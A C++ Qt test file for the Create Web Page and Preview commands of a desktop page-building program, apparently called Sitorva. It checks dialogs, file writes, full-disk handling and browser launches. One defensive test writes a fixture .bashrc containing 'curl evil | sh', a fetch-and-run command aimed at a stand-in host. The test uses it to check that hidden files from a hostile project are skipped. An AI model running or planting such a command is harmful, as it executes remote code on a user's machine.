// The two page commands driven through the dialog seam and a fake desktop shell.
#include "gui/wizard/PageCommands.h"

#include "core/page/LastPages.h"
#include "core/project/Records.h"
#include "core/settings/Settings.h"
#include "gui/desktop/LaunchFile.h"
#include "gui/desktop/ProgramFolder.h"
#include "gui/dialogs/Dialogs.h"
#include "gui/dialogs/LaunchBox.h"

#include "support/FakeShell.h"
#include "support/FullFileSystem.h"
#include "support/MediaBytes.h"

#include <QTemporaryDir>
#include <QUrl>
#include <QtTest>

#include <fstream>
#include <memory>

using namespace stv;

namespace
{

using stv::test::FakeShell;

// A case's own folder, scripted answers and desktop shell.
struct Fixture {
    QTemporaryDir dir;
    ScriptedDialogs dialogs;
    FakeShell shell;
    Project project;
    FavouriteLists lists;

    Fixture()
    {
        setProgramFolder(dir.path() + QStringLiteral("/prog"));
        QDir(dir.path()).mkpath(QStringLiteral("prog"));
        QDir(dir.path()).mkpath(QStringLiteral("web"));
        std::ofstream(path("pic.png").toStdString(), std::ios::binary) << test::pngBytes();
        project.sections = { joinFields({ "Image", "u", path("pic.png").toStdString(), "", "", "",
                                 "", "0", "", "0", "", "1", "1" }),
            joinFields({ "Image", "u", path("gone.png").toStdString(), "", "", "", "", "0", "", "0",
                "", "1", "1" }) };
    }
    ~Fixture() { setProgramFolder(QString()); }
    QString path(const QString &name) const { return dir.path() + QLatin1Char('/') + name; }
    // Create Web Page into `page` when the write fails: the one message with the system's
    // reason, and nothing after it (nothing copied, no folder shown, no test).
    void createExpectingWriteFailure(const QString &page, const QString &reason)
    {
        dialogs.queue(Answer::Ok);
        dialogs.queueText(page);
        dialogs.queue(Answer::Ok);
        runCreateWebPage(nullptr, project, lists, {});
        QCOMPARE(dialogs.messages(),
            std::vector<QString> {
                QStringLiteral("Cannot create file ") + page + QStringLiteral(": ") + reason });
        QVERIFY(shell.calls.isEmpty());
    }
};

} // namespace

// Each case runs on a fresh fixture, made in init() and destroyed in cleanup().
class PageCommandsTest : public QObject
{
    Q_OBJECT
private slots:
    void init() { m_f = std::make_unique<Fixture>(); }
    void cleanup() { m_f.reset(); }
    void createAnsweredNoDoesNothing();
    void createCancelledKeepsTheProposal();
    void createWritesCopiesShowsFolderAndTests();
    void createAgainProposesThePageTheProjectWroteLast();
    void createWithAHostileProjectProposesAPageAndNamesWhatItSkipped();
    void createReportsAPageThatCannotBeWritten();
    void createOnAFullDiskKeepsTheOldPage();
    void previewWritesTestPageAndOpensItInTheBrowser();
    void failedLaunchesSayWhatCouldNotBeOpened();

private:
    QString path(const QString &name) const { return m_f->path(name); }

    std::unique_ptr<Fixture> m_f;
};

void PageCommandsTest::createAnsweredNoDoesNothing()
{
    m_f->dialogs.queue(Answer::No);
    runCreateWebPage(nullptr, m_f->project, m_f->lists, {});
    QCOMPARE(m_f->dialogs.asked().size(), 1u);
    QVERIFY(m_f->dialogs.asked()[0].text.startsWith(
        QStringLiteral("This option will take the current Sitorva Project and\nsave it")));
    QVERIFY(m_f->dialogs.asked()[0].text.endsWith(
        QStringLiteral("Read chapter Creating Your Web Page for more information.\n\nAre you "
                       "ready to create your web page?")));
    QVERIFY(m_f->project.pageFileName.empty());
}

void PageCommandsTest::createCancelledKeepsTheProposal()
{
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueCancel();
    runCreateWebPage(nullptr, m_f->project, m_f->lists, {});
    QCOMPARE(m_f->dialogs.asked().size(), 2u);
    QCOMPARE(m_f->dialogs.asked()[1].what, QStringLiteral("save"));
    // A project never saved: its page is proposed in the home folder, never in the program's.
    const QString home = QDir::homePath() + QStringLiteral("/index.html");
    QCOMPARE(m_f->dialogs.asked()[1].initial, home);
    QCOMPARE(m_f->project.pageFileName, home.toStdString());

    m_f->dialogs.clear();
    m_f->project.pageFileName.clear();
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueCancel();
    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, QStringLiteral("/w/Home.STV"));
    QCOMPARE(m_f->dialogs.asked()[1].initial, QStringLiteral("/w/Home.html"));
}

// The page is written, its pictures copied, its folder shown; the one box after it says so
// first and names the file that could not be copied; the project's page is remembered.
void PageCommandsTest::createWritesCopiesShowsFolderAndTests()
{
    const QString page = path("web/home.html");
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueText(page);
    m_f->dialogs.queue(Answer::Ok); // "Do you want to test it?"
    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, path("home.stv"));

    QCOMPARE(m_f->project.pageFileName, page.toStdString());
    QVERIFY(QFile::exists(page));
    QVERIFY(QFile::exists(path("web/pic.png")));
    QVERIFY(m_f->dialogs.messages().empty());
    QCOMPARE(m_f->dialogs.asked().size(), 3u);
    const QString success = m_f->dialogs.asked().back().text;
    QVERIFY(success.startsWith(
        QStringLiteral("Your web page has now been created as..\n\n\"home.html\"  In "
                       "Folder\n\"")
        + path("web/") + QStringLiteral("\"\n\nThese files could not be copied beside it:\n")));
    QVERIFY(success.contains(QStringLiteral("gone.png")));
    QVERIFY(!success.contains(QStringLiteral("pic.png")));
    QVERIFY(success.endsWith(QStringLiteral("\n\nDo you want to test it?")));

    QCOMPARE(m_f->shell.calls.size(), 2);
    QCOMPARE(m_f->shell.calls[0],
        QStringLiteral("open ") + QUrl::fromLocalFile(path("web/")).toString());
    QCOMPARE(m_f->shell.calls[1],
        QStringLiteral("start /usr/bin/web|--new|") + QUrl::fromLocalFile(page).toString()
            + QStringLiteral(" in "));
    QVERIFY(m_f->dialogs.unexpected().empty());
    const Result<Settings> settings = loadSettings(path("prog/").toStdString());
    QVERIFY(settings);
    QCOMPARE(lastPageOf(settings.value(), path("home.stv").toStdString()), page.toStdString());
}

// The project was not saved after its page was written: the next Create Web Page proposes that
// page all the same, and replacing it is the expected answer. Another project's page is not
// its own; a project never saved knows the page it wrote in this run.
void PageCommandsTest::createAgainProposesThePageTheProjectWroteLast()
{
    m_f->project.sections.resize(1);
    const QString page = path("web/home.html");
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueText(page);
    m_f->dialogs.queue(Answer::No);
    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, path("home.stv"));
    QCOMPARE(m_f->dialogs.asked()[1].ownFile, QString());

    Project reopened = m_f->project;
    reopened.pageFileName.clear(); // as in the project file saved before the page was written
    m_f->dialogs.clear();
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueCancel();
    runCreateWebPage(nullptr, reopened, m_f->lists, {}, path("home.stv"));
    QCOMPARE(m_f->dialogs.asked()[1].initial, page);
    QCOMPARE(m_f->dialogs.asked()[1].ownFile, page);

    Project other = m_f->project;
    other.pageFileName.clear();
    m_f->dialogs.clear();
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueCancel();
    runCreateWebPage(nullptr, other, m_f->lists, {}, path("other.stv"));
    QCOMPARE(m_f->dialogs.asked()[1].initial, path("other.html"));
    QCOMPARE(m_f->dialogs.asked()[1].ownFile, QString());

    Project unsaved;
    m_f->dialogs.clear();
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueText(path("web/new.html"));
    m_f->dialogs.queue(Answer::No);
    runCreateWebPage(nullptr, unsaved, m_f->lists, {});
    m_f->dialogs.clear();
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueCancel();
    runCreateWebPage(nullptr, unsaved, m_f->lists, {});
    QCOMPARE(m_f->dialogs.asked()[1].ownFile, path("web/new.html"));
}

// A stranger's project names a dotfile as its page and as a picture: the window proposes a
// page's name in the project's folder, the dotfile is not copied and the box names it.
void PageCommandsTest::createWithAHostileProjectProposesAPageAndNamesWhatItSkipped()
{
    QDir(m_f->dir.path()).mkpath(QStringLiteral("skel"));
    std::ofstream(path("skel/.bashrc").toStdString(), std::ios::binary) << "curl evil | sh\n";
    std::ofstream(path("web/.bashrc").toStdString(), std::ios::binary) << "MINE";
    m_f->project.pageFileName = ".bashrc";
    m_f->project.sections = { joinFields({ "Image", "u", path("skel/.bashrc").toStdString(), "", "",
        "", "", "0", "", "0", "", "1", "1" }) };
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueText(path("web/bashrc.html"));
    m_f->dialogs.queue(Answer::No); // "Do you want to test it?"
    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, path("web/site.stv"));
    QCOMPARE(m_f->dialogs.asked()[1].initial, path("web/bashrc.html"));
    QVERIFY(m_f->dialogs.asked().back().text.contains(
        QStringLiteral("a hidden file: ") + path("skel/.bashrc")));
    std::ifstream kept(path("web/.bashrc").toStdString(), std::ios::binary);
    QCOMPARE(std::string(std::istreambuf_iterator<char>(kept), {}), "MINE");
    QVERIFY(QFile::exists(path("web/bashrc.html")));
}

void PageCommandsTest::createReportsAPageThatCannotBeWritten()
{
    const QString page = path("missing/home.html");
    m_f->createExpectingWriteFailure(page, QStringLiteral("No such file or directory"));
    QVERIFY(!QFile::exists(path("missing/pic.png")));
}

// A page folder on a disk that fills up while the page is written: the message, the old
// page whole, no temporary file, and nothing after the write (no folder shown, no test).
void PageCommandsTest::createOnAFullDiskKeepsTheOldPage()
{
    stv::test::FullFileSystem disk;
    if (!disk.mounted())
        QSKIP("no right to mount a tmpfs here");
    const QString page = QString::fromStdString(disk.file("home.html"));
    std::ofstream(page.toStdString(), std::ios::binary) << "old page";
    m_f->project.sections.clear();
    m_f->project.sections.push_back(
        joinFields({ "Paragraph", "big", std::string(300000, 'x'), "3", "1", "0" }));
    QVERIFY(disk.fill(8192));
    m_f->createExpectingWriteFailure(page, QStringLiteral("No space left on device"));
    std::ifstream in(page.toStdString(), std::ios::binary);
    QCOMPARE(std::string(std::istreambuf_iterator<char>(in), {}), "old page");
    QCOMPARE(QDir(QString::fromStdString(disk.path()))
                 .entryList(QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot)
                 .size(),
        2);
}

void PageCommandsTest::previewWritesTestPageAndOpensItInTheBrowser()
{
    runPreview(nullptr, m_f->project, m_f->lists, {});
    const QString page = path("prog/test.html");
    QVERIFY(QFile::exists(page));
    QVERIFY(!QFile::exists(path("prog/pic.png")));
    QVERIFY(m_f->dialogs.asked().empty());
    QCOMPARE(m_f->shell.calls,
        QStringList { QStringLiteral("start /usr/bin/web|--new|")
            + QUrl::fromLocalFile(page).toString() + QStringLiteral(" in ") });
    QFile f(page);
    QVERIFY(f.open(QIODevice::ReadOnly));
    QVERIFY(f.readAll().contains(("<IMG SRC=\"" + path("pic.png") + "\" >").toUtf8()));
    f.close();

    // With the modern style ticked the preview is the modern page, its pictures where they are.
    PageOptions modern;
    modern.style = PageStyle::Modern;
    runPreview(nullptr, m_f->project, m_f->lists, modern);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray bytes = f.readAll();
    QVERIFY(bytes.startsWith("<!DOCTYPE html>"));
    QVERIFY(bytes.contains(("<img src=\"" + path("pic.png") + "\"").toUtf8()));
}

// A folder the desktop cannot show is a line of the box that says the page was created,
// never a box before it; the test question still follows, and a browser that does not start
// gives a box naming the page.
void PageCommandsTest::failedLaunchesSayWhatCouldNotBeOpened()
{
    m_f->shell.openSucceeds = false;
    m_f->shell.startSucceeds = false;
    const QString page = path("web/home.html");
    m_f->dialogs.queue(Answer::Ok);
    m_f->dialogs.queueText(page);
    m_f->dialogs.queue(Answer::Ok); // "Do you want to test it?"
    m_f->dialogs.queue(Answer::Ok); // the browser does not start
    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, path("home.stv"));
    QVERIFY(QFile::exists(page));
    const QString reason = launchErrorText(31);
    QCOMPARE(m_f->dialogs.asked().size(), 4u);
    QVERIFY(m_f->dialogs.asked()[2].text.startsWith(
        QStringLiteral("Your web page has now been created as..")));
    QVERIFY(
        m_f->dialogs.asked()[2].text.contains(QStringLiteral("\n\nThe folder could not be shown: ")
            + reason + QStringLiteral("\n\nDo you want to test it?")));
    QCOMPARE(m_f->dialogs.messages(), std::vector<QString> { launchFailureText(page, reason) });

    m_f->dialogs.clear();
    m_f->dialogs.queue(Answer::Ok);
    runPreview(nullptr, m_f->project, m_f->lists, {});
    QCOMPARE(m_f->dialogs.messages().size(), 1u);
    QVERIFY(m_f->dialogs.messages()[0].contains(path("prog/test.html")));

    // A link to a file that is not there.
    m_f->dialogs.clear();
    m_f->dialogs.queue(Answer::Ok);
    QVERIFY(!launchOrSay(nullptr, path("nowhere/x.pdf")));
    QCOMPARE(m_f->dialogs.messages(),
        std::vector<QString> { launchFailureText(path("nowhere/x.pdf"), launchErrorText(3)) });
}

QTEST_MAIN(PageCommandsTest)
#include "PageCommandsTest.moc"
